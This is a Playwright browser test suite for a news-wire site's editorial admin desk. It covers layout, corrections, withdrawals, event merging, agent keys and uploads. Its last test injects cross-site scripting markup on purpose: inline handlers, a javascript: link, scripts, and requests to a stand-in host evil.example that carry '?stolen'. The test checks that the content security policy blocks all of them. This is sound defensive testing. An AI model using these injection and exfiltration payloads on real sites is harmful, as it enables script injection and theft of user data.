"""Editors at their desk, and what readers, programs and agents see of it at once."""

import datetime as dt
import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, StorageState, expect

from tests.browser.conftest import Open
from tests.browser.pages import THEMES
from tests.browser.server import Wire, serving_sample, superuser
from tests.examples import FULL
from tests.screenshots import save_screenshot

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def edited(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Wire]:
    """A wire that these tests may change."""
    with serving_sample(tmp_path_factory.mktemp("edited")) as wire:
        yield wire


@pytest.fixture(scope="module")
def cookies(edited: Wire, browser: Browser) -> StorageState:
    """Of a login with the password that the operator was told."""
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(f"{edited.site}/admin/")
        log_in(page, "editor", edited.password())
        return context.storage_state()


@pytest.fixture
def desk(edited: Wire, cookies: StorageState, open_page: Open) -> Iterator[Page]:
    """The desk's first page, after a login."""
    shown = open_page("/admin/", of=edited, storage_state=cookies)
    yield shown.page
    assert (shown.said, shown.violated(), shown.elsewhere) == ([], [], [])


@pytest.mark.parametrize("width", [390, 1440])
@pytest.mark.parametrize(
    ("name", "path"),
    {
        "desk": "",
        "desk-stories": "wire/story/",
        "desk-story": "wire/story/1/change/",
        "desk-withdrawal": "wire/story/1/withdraw/",
        "desk-events": "wire/event/",
        "desk-queue": "wire/story/?queue=no-summary",
        "desk-take": "wire/editortake/add/",
        "desk-feeds": "sources/feed/",
        "desk-lexicon": "wire/lexiconterm/",
        "desk-replacement": "sources/publication/replace/",
        "desk-trial": "sources/feed/trial/",
        "desk-rebuild": "wire/lexiconterm/rebuild/",
        "desk-agent": "gateway/agent/add/",
        "desk-upload": "factchecks/loadjob/upload/",
        "desk-corpus": "timeline/corpus/1/change/",
    }.items(),
)
def test_the_desk_fits_the_window(desk: Page, edited: Wire, name: str, path: str, width: int) -> None:
    desk.set_viewport_size({"width": width, "height": 900})
    for theme in THEMES if FULL else THEMES[:1]:  # a width is the same in all colours; the other is for people who look at pictures
        desk.emulate_media(color_scheme=theme)
        desk.goto(f"{edited.site}/admin/{path}")
        assert desk.evaluate("document.documentElement.scrollWidth") <= width
        save_screenshot(desk, f"{name}-{width}-{theme}")


def test_a_button_says_working_until_its_answer_comes(desk: Page, edited: Wire) -> None:
    desk.goto(f"{edited.site}/admin/sources/feed/trial/")
    # It runs after the page's own listener, and keeps the form here: the answer never comes.
    desk.evaluate("addEventListener('submit', (event) => event.preventDefault())")
    button = desk.get_by_role("button", name="Show what would be stored")
    button.click()
    expect(desk.get_by_role("status").get_by_text("Working…")).to_be_visible()
    expect(button).to_be_disabled()


def test_a_publication_is_replaced_in_two_steps(desk: Page, edited: Wire) -> None:
    before = edited.json("/api/sources.json")
    desk.goto(f"{edited.site}/admin/sources/publication/replace/")
    desk.locator("[name=retire]").select_option(label="Fortune")
    said = {
        "slug": "the-gazette",
        "name": "The Gazette of Examples",
        "aliases": "Gazette of Examples",
        "domains": "gazette.example",
        "homepage": "https://gazette.example/",
        "feed_url": "https://gazette.example/feed",
        "reason": "It closed.",
    }
    for name, text in said.items():
        desk.locator(f"[name={name}]").fill(text)
    desk.locator("[name=tier]").select_option("3")
    desk.locator("[name=feed_type]").select_option("rss")
    desk.get_by_role("button", name="Show what would change").click()

    expect(desk.get_by_role("heading", name="Step 2 of 2")).to_be_visible()
    save_screenshot(desk, "desk-replacement-confirmed-1440-light", full_page=True)
    assert edited.json("/api/sources.json") == before
    desk.get_by_role("button", name="Replace the publication").click()
    expect(desk.get_by_text("Fortune left and The Gazette of Examples joined.")).to_be_visible()

    now = edited.json("/api/sources.json")
    names = [source["name"] for source in now["sources"]]
    assert (len(names), "Fortune" in names, "The Gazette of Examples" in names) == (24, False, True)
    assert now["roster_sha256"] != before["roster_sha256"]
    assert now["roster_sha256"] in edited.get("/sources").text
    verdicts = {name: edited.call("verify_source_integrity", publication_name=name) for name in ("Fortune", "Gazette of Examples")}
    assert [verdict["structuredContent"]["in_roster"] for verdict in verdicts.values()] == [False, True]


def test_a_corrected_story_is_told_so_at_every_door(desk: Page, edited: Wire) -> None:
    story, changed = a_story(edited), "A headline that an editor mended"
    open_story(desk, edited, story)
    desk.locator("[name=headline]").fill(changed)
    desk.locator("[name=reason]").fill("The old one was wrong.")
    save(desk)

    desk.goto(f"{edited.site}/story/{story}")
    assert desk.locator("h1").inner_text() == changed
    expect(desk.locator("#revisions + ol")).to_contain_text("The old one was wrong.")
    expect(desk.locator("#layered")).to_contain_text("[corrected ")
    rest, mcp = edited.json(f"/api/stories/{story}.json"), edited.call("get_story", story_id=story)["structuredContent"]
    assert [(told["headline"], told["status"]) for told in (rest, mcp)] == [(changed, "corrected")] * 2


def test_the_list_of_events_shows_all_its_columns_in_a_window_of_1280_pixels(desk: Page, edited: Wire) -> None:
    desk.set_viewport_size({"width": 1280, "height": 900})
    desk.goto(f"{edited.site}/admin/wire/event/")
    save_screenshot(desk, "desk-events-1280-light")
    widths = (
        "[...document.querySelectorAll('#changelist .simplebar-content-wrapper')].map((one) => one.scrollWidth - one.clientWidth)"
    )
    assert max(desk.evaluate(widths)) == 0


def test_a_missing_reason_is_named_and_its_field_is_seen_above_the_bar(desk: Page, edited: Wire) -> None:
    desk.set_viewport_size({"width": 1280, "height": 900})
    open_story(desk, edited, a_story(edited))
    desk.locator("[name=headline]").fill("A headline without a reason")
    desk.get_by_role("button", name="Save", exact=True).click()
    expect(desk.locator(".errornote")).to_contain_text("Nothing was saved. Reason: Every change needs a reason; readers see it.")
    reason = desk.locator("[name=reason]")
    expect(reason).to_be_focused()
    row, bar = (
        desk.locator(".field-reason").bounding_box(),
        desk.locator("#submit-row").bounding_box(),
    )
    save_screenshot(desk, "desk-story-reason-missing-1280-light")
    assert row
    assert bar
    assert 0 <= row["y"] < row["y"] + row["height"] <= bar["y"]


def test_a_withdrawn_story_leaves_every_door(desk: Page, edited: Wire) -> None:
    story = a_story(edited)
    open_story(desk, edited, story)
    desk.get_by_role("link", name="Withdraw…").click()
    expect(desk.get_by_text("This cannot be undone.")).to_be_visible()
    desk.locator("[name=reason]").fill("It never happened.")
    desk.get_by_role("button", name="Withdraw this story").click()
    expect(desk.get_by_text("This story was withdrawn. That is final")).to_be_visible()

    desk.goto(f"{edited.site}/story/{story}")
    expect(desk.get_by_role("heading", level=1)).to_contain_text("Withdrawn: ")
    assert desk.locator("#layered").count() == 0
    desk.goto(f"{edited.site}/corrections")
    expect(desk.locator("main li").first).to_contain_text("Withdrawn. It never happened.")
    rest, mcp = edited.json(f"/api/stories/{story}.json"), edited.call("get_story", story_id=story)["structuredContent"]
    assert [(told["status"], told["citation_objects"]) for told in (rest, mcp)] == [("withdrawn", None)] * 2
    assert story not in stories(edited)


def test_two_events_become_one_and_are_split_again_on_the_events_page(desk: Page, edited: Wire) -> None:
    one, two = list(stories(edited))[:2]
    events = [edited.json(f"/api/stories/{story}.json")["event_id"] for story in (one, two)]
    desk.goto(f"{edited.site}/admin/wire/event/{events[0]}/change/")
    desk.locator("#other-id").fill(f"{edited.site}/story/{two}")
    desk.locator("#merge-reason").fill("One happening.")
    desk.get_by_role("button", name="Merge the two events").click()
    expect(desk.get_by_text("Events merged: ")).to_be_visible()
    merged = {edited.json(f"/api/stories/{story}.json")["event_id"] for story in (one, two)}
    assert len(merged) == 1

    desk.locator(f"button[form=lead][value='{two}']").click()
    expect(desk.get_by_text("leads this event now.")).to_be_visible()
    desk.locator(f"input[type=checkbox][value='{two}']").check()
    desk.locator("#split-reason").fill("Two after all.")
    desk.get_by_role("button", name="Split off the ticked reports").click()
    expect(desk.get_by_text("Split off into an event of their own: ")).to_be_visible()
    assert edited.json(f"/api/stories/{two}.json")["event_id"] != edited.json(f"/api/stories/{one}.json")["event_id"]


def test_without_javascript_a_correction_and_a_take_are_previewed(edited: Wire, open_page: Open) -> None:
    page = open_page("/admin/", of=edited, java_script_enabled=False).page
    log_in(page, "editor", edited.password())
    story = a_story(edited)
    open_story(page, edited, story)
    page.locator("[name=headline]").fill("A headline that nobody saves")
    page.get_by_role("button", name="Preview").click()
    expect(page.locator(".as-read .story")).to_contain_text("A headline that nobody saves")
    expect(page.locator(".as-read blockquote")).to_contain_text("[corrected ")
    assert edited.json(f"/api/stories/{story}.json")["headline"] != "A headline that nobody saves"

    page.goto(f"{edited.site}/admin/wire/editortake/add/?wire_date={edited.json('/api/today.json')['wire_date']}")
    assert page.locator("[name=markdown]").input_value()
    page.locator("[name=wire_date]").fill(f"{dt.datetime.now(dt.UTC):%Y-%m-%d}")
    page.locator("[name=markdown]").fill("A *quiet* day.")
    page.get_by_role("button", name="Preview").click()
    expect(page.locator(".as-read em").first).to_have_text("quiet")


def test_a_queue_is_opened_from_the_dashboard_and_says_what_it_is(desk: Page) -> None:
    expect(desk.get_by_text("This is the sample wire, which fetches no feeds.")).to_be_visible()
    desk.locator("main, #main, .desk").get_by_role("link", name="Flagged stories: ").first.click()
    expect(desk.get_by_role("heading", name="Flagged stories")).to_be_visible()


def test_a_page_that_an_editor_may_not_see_says_what_to_do(edited: Wire, open_page: Open) -> None:
    page = open_page("/admin/", of=edited).page
    log_in(page, "editor", edited.password())
    answer = page.goto(f"{edited.site}/admin/auth/user/")
    assert answer is not None
    assert answer.status == 403
    expect(page.get_by_role("heading", name="You do not have permission")).to_be_visible()
    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_role("heading", name="You do not have permission")).to_have_count(0)


def open_story(desk: Page, wire: Wire, story: str) -> None:
    """Its page at the desk, found as an editor finds it."""
    desk.goto(f"{wire.site}/admin/wire/story/?q={story}")
    desk.locator("#result_list .field-headline a").click()
    expect(desk.locator("[name=headline]")).to_be_visible()


def save(desk: Page) -> None:
    desk.get_by_role("button", name="Save", exact=True).click()
    expect(desk.get_by_text("Saved: ")).to_be_visible()


def a_story(wire: Wire) -> str:
    """The last of today that nobody edited yet."""
    return [story for story, status in stories(wire).items() if status == "live"][-1]


def stories(wire: Wire) -> dict[str, Any]:
    return {story["chatbotnews_id"]: story["status"] for story in wire.json("/api/today.json")["stories"]}


def log_in(page: Page, name: str, password: str) -> None:
    page.locator("[name=username]").fill(name)
    page.locator("[name=password]").fill(password)
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("Dashboard")


def test_every_page_of_the_desk_obeys_its_policy_and_fits_everybody(edited: Wire, open_page: Open) -> None:
    superuser(edited, "chief", "correct horse battery")
    shown = open_page("/admin/", of=edited)
    log_in(shown.page, "chief", "correct horse battery")
    shown.page.goto(f"{edited.site}/admin/wire/story/?status__exact=live")
    live = next(path for path in shown.page.evaluate(LINKS) if path.endswith("/change/"))  # a withdrawn one leads to fewer pages
    waiting, seen, unfit = ["/admin/", live], dict[str, list[str]](), dict[str, list[str]]()
    while waiting:
        path = waiting.pop()
        kind = re.sub(r"[^/]+(?=/(change|history)/)|\d+", "1", re.sub(r"cbn-\w+", "cbn", path))
        if kind in seen or kind.startswith(("/admin/jsi18n/", "/admin/r/")) or "/export." in kind:
            continue
        answer = shown.page.goto(f"{edited.site}{path}")
        assert answer is not None
        assert answer.status == 200, path
        expect(shown.page.locator("html[x-cloak]")).to_have_count(0)  # Alpine has read the page
        seen[kind] = shown.violated()
        if kind in EVERY and not kind.startswith("/admin/auth/"):  # Django's own chooser of permissions, for superusers alone
            unfit[kind] = shown.unfit()
        waiting += shown.page.evaluate(LINKS)
    assert {path: violated for path, violated in seen.items() if violated} == {}
    assert {path: faults for path, faults in unfit.items() if faults} == {}
    assert (shown.said, shown.elsewhere) == ([], [])
    assert seen.keys() >= EVERY


LINKS = """() => [...document.querySelectorAll("a[href]")].map((link) => new URL(link.href))
    .filter((url) => url.origin === location.origin && url.pathname.startsWith("/admin/")).map((url) => url.pathname)"""
EVERY = {
    "/admin/",
    "/admin/password_change/",
    "/admin/auth/user/1/change/",
    "/admin/auth/group/add/",
    "/admin/sources/feed/1/change/",
    "/admin/sources/publication/1/change/",
    "/admin/sources/publication/replace/",
    "/admin/sources/rosterrevision/1/change/",
    "/admin/wire/lexiconterm/import/",
    "/admin/wire/lexiconterm/1/history/",
    "/admin/wire/editortake/add/",
    "/admin/wire/snapshot/1/change/",
    "/admin/wire/story/1/change/",
    "/admin/wire/story/1/withdraw/",
    "/admin/wire/event/1/change/",
    "/admin/wire/story/",
    "/admin/wire/story/twins/",
    "/admin/wire/lexiconterm/",
    "/admin/wire/lexiconterm/rebuild/",
    "/admin/sources/feed/trial/",
    "/admin/gateway/agent/add/",
    "/admin/gateway/override/add/",
    "/admin/factchecks/loadjob/upload/",
    "/admin/timeline/corpus/1/change/",
    "/admin/timeline/report/1/change/",
    "/admin/articles/publisher/add/",
}


def test_an_agent_is_made_and_its_key_is_copied_once(edited: Wire, open_page: Open) -> None:
    shown = open_page("/admin/", of=edited)
    log_in(shown.page, "editor", edited.password())
    shown.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    shown.page.goto(f"{edited.site}/admin/gateway/agent/add/")
    shown.page.get_by_role("button", name="Save", exact=True).click()
    expect(shown.page.locator("[name=name]")).to_be_focused()  # the cursor is where something is missing
    shown.page.locator("[name=name]").fill("scout")
    shown.page.get_by_label("twitter:// (").check()
    shown.page.locator("[name=attribute_twitter_id]").fill("7")
    shown.page.get_by_role("button", name="Save", exact=True).click()
    key = shown.page.locator(".key code").inner_text()
    assert shown.unfit() == []
    shown.page.get_by_role("button", name="Copy the key of scout").click()
    expect(shown.page.get_by_text("Copied")).to_be_visible()
    assert shown.page.evaluate("navigator.clipboard.readText()") == key
    shown.page.get_by_role("link", name="Done").click()
    shown.page.get_by_role("link", name="scout").click()
    for step in ("New key…", "Revoke…"):
        shown.page.get_by_role("link", name=step).click()
        assert shown.unfit() == []
        shown.page.get_by_role("link", name="Go back without changes").click()
    assert key not in shown.page.content()
    assert (shown.said, shown.violated()) == ([], [])


def test_an_uploaded_file_of_fact_checks_is_loaded_while_its_page_watches(edited: Wire, open_page: Open) -> None:
    shown = open_page("/admin/", of=edited)
    log_in(shown.page, "editor", edited.password())
    shown.page.goto(f"{edited.site}/admin/factchecks/loadjob/upload/")
    content = b"claim,verdict\nThe moon is made of cheese,False\n,True\n"
    file = {"name": "claims.csv", "mimeType": "text/csv", "buffer": content}
    shown.page.locator("input[type=file]").set_input_files(file)  # type: ignore[arg-type]
    shown.page.get_by_role("button", name="Upload", exact=True).click()
    expect(shown.page.get_by_text("Readers see what was stored.")).to_be_visible(timeout=60_000)
    assert shown.unfit() == []
    assert (shown.said, shown.violated()) == ([], [])


def test_what_unfold_makes_of_a_page_works_under_the_policy(desk: Page, edited: Wire) -> None:
    desk.get_by_text("editor", exact=True).click()
    desk.get_by_text("Dark", exact=True).click()
    expect(desk.locator("html.dark")).to_have_count(1)

    desk.goto(f"{edited.site}/admin/wire/story/")
    assert desk.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--color-primary-600')")
    desk.locator("#result_list tbody input[type=checkbox]").first.check()
    expect(desk.get_by_placeholder("Reason, stored in the history")).to_be_visible()
    expect(desk.locator("#changelist-filter")).to_be_hidden()
    desk.locator("a").filter(has_text="Filters").click()
    expect(desk.locator("#changelist-filter")).to_be_visible()

    desk.goto(f"{edited.site}/admin/sources/publication/1/change/")
    feeds = desk.locator("[name$=-url]:not([name*=__prefix__])")
    before = feeds.count()
    desk.get_by_text("Add another Feed").click()
    expect(feeds).to_have_count(before + 1)

    desk.goto(f"{edited.site}/admin/wire/lexiconterm/import/")
    file = {"name": "terms.csv", "mimeType": "text/csv", "buffer": b"kind,term\na,b\n"}
    desk.locator("input[type=file]").set_input_files(file)  # type: ignore[arg-type]
    desk.get_by_role("button", name="Show what would change").click()
    expect(desk.get_by_text("must have exactly the columns kind, target, term, weight")).to_be_visible()


def test_without_javascript_an_editor_logs_in_and_reads_the_desk(edited: Wire, open_page: Open) -> None:
    page = open_page("/admin/", of=edited, java_script_enabled=False).page
    log_in(page, "editor", edited.password())
    page.goto(f"{edited.site}/admin/wire/story/")
    expect(page.locator("#result_list tbody tr").first).to_be_visible()


def test_markup_that_got_into_a_page_runs_no_script_and_sends_nothing_away(edited: Wire, open_page: Open) -> None:
    shown = open_page("/admin/login/", of=edited)
    shown.page.evaluate(
        """async () => {
          document.body.insertAdjacentHTML("beforeend", `<img src="/none" onerror="window.ran = 'handler'">
            <a id="link" href="javascript:window.ran = 'link'">x</a><style>body { color: red }</style>
            <img src="https://evil.example/?stolen"><iframe src="https://evil.example/"></iframe>`);
          const script = document.createElement("script");
          script.textContent = "window.ran = 'inline'";
          const foreign = document.createElement("script");
          foreign.src = "https://evil.example/x.js";
          document.body.append(script, foreign);
          document.getElementById("link").click();
          await fetch("https://evil.example/?stolen").catch(() => {});
        }"""
    )
    expected = {
        *("script-src-attr: inline", "script-src-elem: inline", "style-src-elem: inline"),
        *("img-src: https://evil.example/?stolen", "connect-src: https://evil.example/?stolen"),
        *("script-src-elem: https://evil.example/x.js", "frame-src: https://evil.example"),
    }
    shown.page.wait_for_function("(count) => new Set(window.watched.violated).size >= count", arg=len(expected))
    assert expected <= set(shown.violated())
    assert shown.page.evaluate("window.ran") is None
